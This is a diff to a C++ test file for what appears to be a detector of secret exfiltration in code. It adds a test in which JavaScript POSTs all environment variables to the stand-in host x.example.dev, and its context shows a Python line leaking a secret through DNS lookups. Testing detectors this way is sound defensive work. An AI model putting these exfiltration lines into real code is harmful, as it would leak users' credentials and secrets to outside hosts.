@@ -825,3 +825,10 @@ TEST_CASE("Bun's and Deno's environments are the environment, and a hex of a sec
              "[socket.gethostbyname(v[i:i + 60] + '.%d.q.x.example.net' % i) for i in range(0, len(v), 60)]\n",
              "secret_in_dns", true);
 }
+
+TEST_CASE("a module's own functions reached through require() are the module's") {
+  check_flow(Language::javascript,
+             "require('https')\n  .request('https://x.example.dev/api/ready', { method: 'POST' })\n  .on('error', () => {})\n"
+             "  .end(JSON.stringify(process.env));\n",
+             "environment_to_network", true);
+}
